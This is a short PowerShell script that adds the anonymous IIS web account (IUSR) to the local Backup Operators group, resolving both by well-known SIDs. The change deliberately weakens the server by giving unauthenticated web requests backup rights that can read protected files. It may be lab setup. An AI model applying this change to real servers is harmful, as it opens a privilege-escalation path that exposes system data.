$operators = (New-Object Security.Principal.SecurityIdentifier 'S-1-5-32-551').Translate([Security.Principal.NTAccount]).Value.Split('\')[1]
$iusr = (New-Object Security.Principal.SecurityIdentifier 'S-1-5-17').Translate([Security.Principal.NTAccount]).Value
Write-Host "$iusr may back up"
net localgroup "$operators" "$iusr" /add
